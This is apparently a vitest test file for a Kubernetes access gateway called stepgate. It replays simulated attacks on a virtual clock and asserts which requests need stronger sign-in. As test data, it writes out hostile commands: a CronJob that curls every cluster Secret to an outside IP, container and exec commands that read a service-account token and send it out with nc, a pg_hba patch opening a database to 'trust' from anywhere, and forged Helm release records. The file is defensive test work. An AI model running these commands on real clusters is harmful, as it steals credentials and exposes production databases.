import { describe, expect, it } from 'vitest';
import { reasonOf, type CheckResponse } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import type { Login } from '../support/workday.js';

/**
 * What the twelfth replayed day (test/support/workday12.ts, docs/risk.md "Day 12") found allowed,
 * through the real gRPC server running examples/stepgate.yaml on a virtual clock. Two are fixed in
 * the example (a CronJob in an operator's `*-system` namespace, a production CloudNativePG Cluster
 * changed by hand), one by the guardrail helm_release_edited (a Helm release record written by a
 * client that is not Helm); the rest are `it.fails`: each asserts the safe outcome and states, in its
 * comment, why stepgate cannot reach it from the request.
 */

const s = exampleServiceForFile();
const WED = Date.UTC(2027, 2, 3, 9, 0, 0);
const THU = Date.UTC(2027, 2, 4, 9, 0, 0);
const M = 60_000;
const H = 3_600_000;
const DUB = 'kubernetes.dub.fin.example';
const SYD = 'kubernetes.syd.fin.example';
const OFFICE = '10.40.1.45';
const KUBECTL = 'kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0';
const JSON_CT = 'application/json';
const SMP = 'application/strategic-merge-patch+json';
const MERGE = 'application/merge-patch+json';
const WS = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v4.channel.k8s.io' };

interface Opts { body?: string; contentType?: string; ua?: string; source?: string; host?: string; headers?: Record<string, string> }

function send(login: Login, at: number, method: string, path: string, o: Opts = {}): Promise<CheckResponse> {
  const { body, contentType = JSON_CT, ua = KUBECTL, source = OFFICE, host = DUB } = o;
  const headers: Record<string, string> = { 'user-agent': ua, ...o.headers, ...(body !== undefined ? { 'content-type': contentType, 'x-envoy-auth-partial-body': 'false' } : {}) };
  return s.sendAt(login, at, { method, path, source, host, headers, ...(body !== undefined ? { body } : {}) });
}

const signIn = (sub: string, at: number): Login => ({ sub, sid: `${sub}:${at}`, authTime: Math.floor(at / 1000), acr: 'urn:stepgate:aal2' });
const rules = (res: CheckResponse) => res.dynamic_metadata?.fields.rules?.stringValue ?? '';

type Step = [method: string, path: string, body?: string, contentType?: string, headers?: Record<string, string>];

/** Requests that must be allowed (the engineer's own work), in order, 20 s apart from `t`. */
async function routine(login: Login, t: number, reqs: Step[], o: Opts = {}): Promise<number> {
  for (const [method, path, body, contentType, headers] of reqs) {
    const res = await send(login, (t += 20_000), method, path, { ...o, ...(body !== undefined ? { body } : {}), ...(contentType !== undefined ? { contentType } : {}), ...(headers ? { headers } : {}) });
    expect(res.status.code, `${method} ${path}: ${reasonOf(res)} ${rules(res)}`).toBe(0);
  }
  return t;
}

/** Two days of the engineer's work (Wednesday's, then Thursday's from 09:00), each after its morning sign-in; Thursday's login. */
async function twoDays(sub: string, reqs: Step[], o: Opts = {}): Promise<Login> {
  let login = signIn(sub, WED - 40_000);
  await routine(login, WED, reqs, o);
  login = signIn(sub, THU - 40_000);
  await routine(login, THU, reqs, o);
  return login;
}

describe("a database operator's objects, with examples/stepgate.yaml", () => {
  const DBA: Step[] = [
    ['GET', '/api/v1/namespaces/cnpg-system/pods?limit=500'],
    ['GET', '/api/v1/namespaces/cnpg-system/pods/cnpg-controller-manager-5d7f9b-x2k4p/log?tailLines=100'],
    ['GET', '/apis/postgresql.cnpg.io/v1/namespaces/payments-prod/clusters/payments-db'],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
  ];

  it("a CronJob in the operator's namespace running as its account asks a hardware key (system-workload-creates, `*-system`)", async () => {
    const login = await twoDays('dba-a@fin.example', DBA);
    const cron = JSON.stringify({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'cnpg-backup-verify', namespace: 'cnpg-system' }, spec: { schedule: '17 */6 * * *', jobTemplate: { spec: { template: { spec: { serviceAccountName: 'cnpg-manager', restartPolicy: 'OnFailure', containers: [{ name: 'verify', image: 'bitnami/kubectl:1.32', command: ['sh', '-c', 'kubectl get secrets -A -o json | curl -s --data-binary @- https://45.135.232.18/c'] }] } } } } } });
    const res = await send(login, THU + 7 * H, 'POST', '/apis/batch/v1/namespaces/cnpg-system/cronjobs?fieldManager=kubectl-create', { body: cron });
    expect(reasonOf(res), rules(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('system-workload-creates');
  });

  it("a production Cluster's pg_hba opened to trust asks a sign-in within 15 minutes (prod-database-clusters); `kubectl cnpg promote` (its status) does not", async () => {
    const login = await twoDays('dba-b@fin.example', DBA);
    const promote = await send(login, THU + 2 * H, 'PATCH', '/apis/postgresql.cnpg.io/v1/namespaces/payments-prod/clusters/payments-db/status', { body: JSON.stringify({ status: { targetPrimary: 'payments-db-2', targetPrimaryTimestamp: '2027-03-04T11:02:13.000000Z' } }), contentType: MERGE, ua: 'kubectl-cnpg/v0.0.0 (linux/amd64) kubernetes/$Format' });
    expect(reasonOf(promote), rules(promote)).toBe('allowed');
    const res = await send(login, THU + 7 * H, 'PATCH', '/apis/postgresql.cnpg.io/v1/namespaces/payments-prod/clusters/payments-db?fieldManager=kubectl-patch', { body: JSON.stringify({ spec: { postgresql: { pg_hba: ['host all all 0.0.0.0/0 trust'] } } }), contentType: MERGE });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('prod-database-clusters');
  });

  // Open: a year-long TokenRequest for the operator's account is already a hardware key
  // (service-account-tokens); stopped on the day. Not repeated here.
});

describe('from the victim\'s own laptop, network, client and token, in the working set (open)', () => {
  const ONCALL: Step[] = [
    ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-m4v9p'],
    ['PATCH', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-m4v9p/ephemeralcontainers', JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-7xq2k', image: 'busybox:1.37', stdin: true, tty: true, targetContainerName: 'api' }] } }), SMP],
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-m4v9p/attach?container=debugger-7xq2k&stdin=true&stdout=true&tty=true', undefined, undefined, WS],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
  ];

  // Fixed (guardrail, session 45): an ephemeral container is `kubectl debug`, which the on-call ran
  // an hour before in the same namespace; this one runs a command that reads the target's token
  // through /proc/1/root and pipes it to nc (container_command_egress, critical). The same command
  // through exec is read from the exec's query and asked the same (below).
  it("an ephemeral container whose command reads the pod's token and sends it out is not allowed on the morning's sign-in", async () => {
    const login = await twoDays('oncall-a@fin.example', ONCALL);
    const body = JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', 'cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443'], targetContainerName: 'api' }] } });
    const res = await send(login, THU + 1.5 * H, 'PATCH', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8b9c-r8w3z/ephemeralcontainers', { body, contentType: SMP });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // 04:10 in Sydney: the on-call was paged at 02:30, port-forwarded to the same primary and read
  // the app's Secret; malware on the laptop does the same an hour later and reads the superuser's.
  // Same laptop, network, client, token, namespace; stepgate has no notion of the hour, and the
  // on-call's own night work is what this looks like.
  it.fails('a port-forward to the production primary and its superuser Secret, an hour after the night page, are not allowed', async () => {
    const sub = 'syd-oncall-a@fin.example';
    const home = '120.18.102.22';
    const night: Step[] = [
      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
      ['GET', '/api/v1/namespaces/payments-prod/pods/payments-db-1/portforward?ports=5432', undefined, undefined, WS],
      ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
    ];
    await twoDays(sub, night, { source: home });
    const page = signIn(sub, THU + 6.5 * H);
    await routine(page, THU + 6.5 * H, night, { source: home });
    const pf = await send(page, THU + 7.7 * H, 'GET', '/api/v1/namespaces/payments-prod/pods/payments-db-1/portforward?ports=5432', { source: home, headers: WS });
    const secret = await send(page, THU + 7.7 * H + 5000, 'GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-superuser', { source: home });
    expect([reasonOf(pf), reasonOf(secret)]).not.toEqual(['allowed', 'allowed']);
  });

  // `kubectl replace` of a Helm release record: Helm itself PUTs the previous revision (status
  // superseded) and the new one at every upgrade, with the same body shape; the manifest is in
  // `data.release` (base64 of gzip), and what it held before is not in the request. What differs
  // is the client: Helm says `Helm/3.x`. A record written by anything else is helm_release_edited
  // (two factors within 15 minutes in the example), so the morning's sign-in does not do.
  const HELM_UA = 'Helm/3.16.4';
  const HELM_READS: Step[] = [
    ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
    ['GET', '/api/v1/namespaces/payments-prod/secrets?labelSelector=name%3Dpayments-api%2Cowner%3Dhelm'],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
  ];
  const releaseRecord = (v: number, status: string, extra: Record<string, unknown> = {}) => ({ kind: 'Secret', apiVersion: 'v1', metadata: { name: `sh.helm.release.v1.payments-api.v${v}`, namespace: 'payments-prod', labels: { name: 'payments-api', owner: 'helm', status, version: String(v) }, ...extra }, type: 'helm.sh/release.v1', data: { release: 'H4sIAAAAAAAC/+y9W3PbSJIw+lcQnIgzdmwDqiQHPM3BKA==' } });
  const RECORDS = '/api/v1/namespaces/payments-prod/secrets';
  it('a Helm release record of production rewritten by hand is not allowed on the morning\'s sign-in', async () => {
    const login = await twoDays('helm-a@fin.example', HELM_READS);
    const record = JSON.stringify(releaseRecord(41, 'superseded'));
    const res = await send(login, THU + 6 * H, 'PUT', `${RECORDS}/sh.helm.release.v1.payments-api.v41`, { body: record });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
    expect(rules(res)).toContain('guardrail:helm_release_edited');
  });

  // The class: every verb and encoding that writes a record, from kubectl or a script.
  it.each<[string, string, string, string, string, string?]>([
    ['kubectl patch (merge) of its manifest', 'PATCH', `${RECORDS}/sh.helm.release.v1.payments-api.v42`, JSON.stringify({ data: { release: 'SDRzSUFBQUFBQUFDLyt5OQ==' } }), MERGE],
    ['kubectl patch (strategic) of its status label', 'PATCH', `${RECORDS}/sh.helm.release.v1.payments-api.v41`, JSON.stringify({ metadata: { labels: { status: 'deployed' } } }), SMP],
    ['kubectl patch --type json of its manifest', 'PATCH', `${RECORDS}/sh.helm.release.v1.payments-api.v42`, JSON.stringify([{ op: 'replace', path: '/data/release', value: 'SDRzSUFBQUFBQUFDLyt5OQ==' }]), 'application/json-patch+json'],
    ['server-side apply of a rewritten revision', 'PATCH', `${RECORDS}/sh.helm.release.v1.payments-api.v42?fieldManager=kubectl&force=true`, JSON.stringify(releaseRecord(42, 'deployed')), 'application/apply-patch+yaml'],
    ['a new revision created by kubectl create -f', 'POST', RECORDS, JSON.stringify(releaseRecord(43, 'deployed')), JSON_CT],
    ['a record created by its type alone (generateName)', 'POST', RECORDS, JSON.stringify({ ...releaseRecord(43, 'deployed'), metadata: { generateName: 'rel-', namespace: 'payments-prod', labels: { owner: 'helm' } } }), JSON_CT],
    ['a rewrite by a script claiming no client at all', 'PUT', `${RECORDS}/sh.helm.release.v1.payments-api.v41`, JSON.stringify(releaseRecord(41, 'superseded')), JSON_CT, 'python-requests/2.32.3'],
  ])('a Helm release record written by %s is not allowed on the morning\'s sign-in', async (_what, method, path, body, contentType, ua) => {
    const login = await twoDays(`helm-${method.toLowerCase()}-${contentType.length}-${body.length}@fin.example`, HELM_READS);
    const res = await send(login, THU + 6 * H, method, path, { body, contentType, ...(ua !== undefined ? { ua } : {}) });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
    expect(rules(res)).toContain('guardrail:helm_release_edited');
  });

  // Control: Helm's own upgrade of production (the record created, the chart's Deployment patched,
  // the two records' statuses replaced), as Helm 3.16 sends it, stays the morning sign-in's.
  it("control: Helm's own upgrade of production records is allowed on the morning's sign-in", async () => {
    const login = await twoDays('helm-b@fin.example', HELM_READS);
    let t = THU + 6 * H;
    for (const [method, path, body, contentType] of [
      ['GET', `${RECORDS}?labelSelector=name%3Dpayments-api%2Cowner%3Dhelm%2Cstatus%3Ddeployed`],
      ['POST', RECORDS, JSON.stringify(releaseRecord(43, 'pending-upgrade')), JSON_CT],
      ['PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api', JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: 'ghcr.io/fin-example/payments-api:v3.43.0' }] } } } }), SMP],
      ['PUT', `${RECORDS}/sh.helm.release.v1.payments-api.v42`, JSON.stringify(releaseRecord(42, 'superseded')), JSON_CT],
      ['PUT', `${RECORDS}/sh.helm.release.v1.payments-api.v43`, JSON.stringify(releaseRecord(43, 'deployed')), JSON_CT],
      ['DELETE', `${RECORDS}/sh.helm.release.v1.payments-api.v33`],
    ] as [string, string, string?, string?][]) {
      const res = await send(login, (t += 400), method, path, { ua: HELM_UA, ...(body !== undefined ? { body, contentType: contentType! } : {}) });
      expect(reasonOf(res), `${method} ${path}: ${rules(res)}`).toBe('allowed');
    }
  });
});

describe('two clusters behind one gateway, two offices in one trusted network (open)', () => {
  // With the example as shipped, the working set is namespaces by name: ledger-prod on Dublin's
  // cluster and on Sydney's are one place to the engine, so an engineer who only ever works on
  // Dublin's reads Sydney's Secrets as their own. Which hosts are one cluster only the deployment
  // knows (kubernetes, kubernetes.default.svc and the gateway's name may be one): with
  // `kubernetes.clusters` naming them this is refused (risk-clusters.test.ts); the example, with
  // one cluster, names none, so it stays open here.
  it.fails("Secrets on the other cluster, never used by the engineer, are a departure from the working set", async () => {
    const home = '86.44.105.25';
    const login = await twoDays('dub-a@fin.example', [
      ['GET', '/api/v1/namespaces/ledger-prod/pods?limit=500'],
      ['GET', '/api/v1/namespaces/ledger-prod/secrets/ledger-db-app'],
      ['GET', '/api/v1/namespaces/ledger-staging/pods?limit=500'],
    ], { source: home });
    const res = await send(login, THU + 4 * H, 'GET', '/api/v1/namespaces/ledger-prod/secrets?limit=500', { source: home, host: SYD });
    expect(reasonOf(res), rules(res)).toBe('auth_too_old');
  });

  // `risk.trusted_networks: [10.0.0.0/8]` makes both offices (Sydney 10.41/16, Dublin 10.40/16)
  // no new network for anyone: the Sydney on-call's token, signed in 10 minutes before, used at
  // the Dublin office is the on-call's context everywhere but the address. `risk.locations` with
  // both offices makes it impossible travel (this test passes with a copy of the example that adds
  // them, STEPGATE_EXAMPLE_YAML); the example names only its own sites.
  it.fails("the Sydney on-call's fresh token used at the Dublin office during the handover is stopped", async () => {
    const sub = 'syd-oncall-b@fin.example';
    const sydney = '10.41.2.42';
    await twoDays(sub, [
      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
      ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
    ], { source: sydney });
    const fresh = signIn(sub, THU + 6 * H);
    await routine(fresh, THU + 6 * H, [['GET', '/api/v1/namespaces/payments-prod/events?limit=500']], { source: sydney });
    const res = await send(fresh, THU + 6.25 * H, 'GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-superuser', { source: '10.40.3.201' });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });

  // The pairing partner copied the host's kubelogin cache during the session and uses it from
  // their own desk: the same office network, the company's standard laptop and kubectl build, the
  // host's namespaces. Day 4's office-NAT class: only device evidence (a client certificate, the
  // device cookie) tells two laptops on one network with one build apart.
  it.fails("the pairing partner's use of the host's token from their own desk is stopped", async () => {
    const sub = 'host-a@fin.example';
    const mac = 'kubectl/v1.32.2 (darwin/arm64) kubernetes/67a30c0';
    const login = await twoDays(sub, [
      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
      ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app'],
    ], { ua: mac, source: '10.40.1.45' });
    const res = await send(login, THU + 4.5 * H, 'GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app', { ua: mac, source: '10.40.2.48' });
    expect(reasonOf(res), rules(res)).not.toBe('allowed');
  });
});

describe('an ephemeral container is judged no weaker than exec into the same pod, in every shape kubectl debug sends', () => {
  const POD = 'payments-api-6f8b9c-r8w3z';
  /** `kubectl debug POD -it --image=… --target=api [--profile=…]`: the strategic merge patch it sends. */
  const debug = (securityContext?: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-x7k2p', image: 'busybox:1.37', stdin: true, tty: true, targetContainerName: 'api', terminationMessagePolicy: 'File', ...(securityContext ? { securityContext } : {}), ...extra }] } });
  const exec = (ns: string) => `/api/v1/namespaces/${ns}/pods/${POD}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`;
  const eph = (ns: string) => `/api/v1/namespaces/${ns}/pods/${POD}/ephemeralcontainers`;

  // Each namespace class with its own rule: production (pod-shell), the cluster's own
  // (system-pod-access), stepgate's (gate-itself / gate-itself-access). Fresh subjects, one sign-in
  // each, the exec and the debug at the same virtual time: the answers must be the same or stronger.
  it('the same answer as a WebSocket exec for a sign-in a minute old, seven hours old, and a hardware key a minute old, in production, kube-system, istio-system and stepgate', async () => {
    const states: [string, (sub: string, at: number) => Login][] = [
      ['aal2, 1 min', (sub, at) => signIn(sub, at - M)],
      ['aal2, 7 h', (sub, at) => signIn(sub, at - 7 * H)],
      ['aal3, 1 min', (sub, at) => ({ ...signIn(sub, at - M), acr: 'urn:stepgate:aal3' })],
    ];
    const at = THU + 3 * H;
    let n = 0;
    for (const ns of ['payments-prod', 'kube-system', 'istio-system', 'stepgate']) {
      for (const [state, login] of states) {
        const a = await send(login(`eph-exec-${++n}@fin.example`, at), at, 'GET', exec(ns), { headers: WS });
        const b = await send(login(`eph-debug-${n}@fin.example`, at), at, 'PATCH', eph(ns), { body: debug(), contentType: SMP });
        const rank = (r: CheckResponse) => (reasonOf(r) === 'allowed' ? 0 : reasonOf(r) === 'policy_deny' || reasonOf(r) === 'risk_deny' ? 2 : 1);
        expect(rank(b), `${ns} ${state}: exec ${reasonOf(a)} (${rules(a)}), debug ${reasonOf(b)} (${rules(b)})`).toBeGreaterThanOrEqual(rank(a));
      }
    }
  });

  it("--profile=sysadmin, netadmin and general, a JSON patch, and a PUT of the pod: each asks the guardrail's hardware key where the plain debug is allowed", async () => {
    const login = await twoDays('oncall-c@fin.example', [
      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
      ['PATCH', eph('payments-prod'), debug(), SMP],
      ['GET', `/api/v1/namespaces/payments-prod/pods/${POD}/attach?container=debugger-x7k2p&stdin=true&stdout=true&tty=true`, undefined, undefined, WS],
    ]);
    const shapes: [string, Opts, string][] = [
      ['sysadmin', { body: debug({ privileged: true }), contentType: SMP }, 'guardrail:privileged_container'],
      ['netadmin', { body: debug({ capabilities: { add: ['NET_ADMIN', 'NET_RAW'] } }), contentType: SMP }, 'guardrail:capability_added'],
      ['general', { body: debug({ capabilities: { add: ['SYS_PTRACE'] } }), contentType: SMP }, 'guardrail:capability_added'],
      ['JSON patch', { body: JSON.stringify([{ op: 'add', path: '/spec/ephemeralContainers/-', value: { name: 'debugger-q2', image: 'busybox:1.37', securityContext: { privileged: true } } }]), contentType: 'application/json-patch+json' }, 'guardrail:privileged_container'],
      ['PUT', { body: JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: POD, namespace: 'payments-prod' }, spec: { containers: [{ name: 'api', image: 'registry.fin.example/payments-api:4.2.0' }], ephemeralContainers: [{ name: 'debugger-q3', image: 'busybox:1.37', securityContext: { privileged: true } }] } }) }, 'guardrail:privileged_container'],
    ];
    let t = THU + H;
    for (const [name, o, guard] of shapes) {
      const res = await send(login, (t += 30_000), name === 'PUT' ? 'PUT' : 'PATCH', eph('payments-prod'), o);
      expect(reasonOf(res), `${name}: ${rules(res)}`).toBe('acr_insufficient');
      expect(rules(res), name).toContain(guard);
    }
  });

  // What the attack's container runs, `exec` runs too (`kubectl exec -c api -- sh -c 'cat …token |
  // nc …'`) from the same login a minute later: both are asked the same since session 45 (allowed
  // both before), so asking more of one does not move the malware to the other.
  it("the attack's command through exec, from the same login, gets the ephemeral container's answer", async () => {
    const login = await twoDays('oncall-d@fin.example', [
      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
      ['PATCH', eph('payments-prod'), debug(), SMP],
    ]);
    const cmd = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443';
    const viaExec = await send(login, THU + 1.5 * H, 'POST', `/api/v1/namespaces/payments-prod/pods/${POD}/exec?command=sh&command=-c&command=${encodeURIComponent(cmd)}&container=api&stdout=true&stderr=true`, { headers: { connection: 'Upgrade', upgrade: 'SPDY/3.1' } });
    const viaDebug = await send(login, THU + 1.5 * H + M, 'PATCH', eph('payments-prod'), { body: JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', `cat /proc/1/root${cmd.slice(3)}`], targetContainerName: 'api' }] } }), contentType: SMP });
    expect([reasonOf(viaExec), reasonOf(viaDebug)]).toEqual([reasonOf(viaDebug), reasonOf(viaExec)]);
    expect(reasonOf(viaExec)).not.toBe('allowed');
    expect(rules(viaExec)).toContain('container_command_egress');
  });
});
